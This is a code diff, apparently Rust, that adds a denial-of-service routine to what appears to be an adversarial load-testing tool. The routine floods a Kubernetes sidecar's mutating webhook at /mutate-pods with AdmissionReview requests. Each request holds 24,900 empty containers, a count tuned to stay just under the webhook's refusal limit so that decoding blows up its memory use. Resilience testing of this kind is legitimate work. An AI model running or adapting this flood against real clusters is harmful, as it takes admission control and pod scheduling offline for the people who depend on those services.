@@ -22,6 +22,10 @@ const TOKEN_PATHS: [&str; 5] = [
     SLOTS_PATH,
     "/apis/external.metrics.k8s.io/v1beta1/namespaces/default/concurrency",
 ];
+/// The webhook for the sidecar.
+const WEBHOOK_PATH: &str = "/mutate-pods";
+/// With some more elements the webhook refuses a review before it decodes it.
+const REVIEWED_CONTAINERS: usize = 24_900;
 const UPGRADE: &str = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
     Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";
 
@@ -83,6 +87,33 @@ pub(crate) async fn spoofed_headers(mut connection: Box<dyn Connection>, tally: 
         if !exchange(&mut connection, &request, tally).await {
             return;
         }
+    }
+}
+
+/// Pods of as many empty containers as the webhook for the sidecar decodes: each takes two bytes of the
+/// review, and some hundreds when it is decoded.
+pub(crate) async fn reviews(connection: Box<dyn Connection>, tally: &Tally) {
+    let (read, mut write) = split(connection);
+    let containers = vec!["{}"; REVIEWED_CONTAINERS].join(",");
+    let review = format!(
+        r#"{{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{{"uid":"1",
+        "kind":{{"group":"","version":"v1","kind":"Pod"}},"resource":{{"group":"","version":"v1","resource":"pods"}},
+        "operation":"CREATE","namespace":"shop","userInfo":{{}},"object":{{"apiVersion":"v1","kind":"Pod",
+        "metadata":{{"name":"web"}},"spec":{{"containers":[{containers}]}}}}}}}}"#
+    );
+    let request = format!(
+        "POST {WEBHOOK_PATH} HTTP/1.1\r\nHost: hostile\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{review}",
+        review.len()
+    );
+    let flood = async {
+        while write.write_all(request.as_bytes()).await.is_ok() && write.flush().await.is_ok() {
+            tally.add_sent(1);
+            tokio::time::sleep(BATCH_PAUSE).await;
+        }
+    };
+    tokio::select! {
+        () = flood => {}
+        () = drain(read, tally) => {}
     }
 }
 
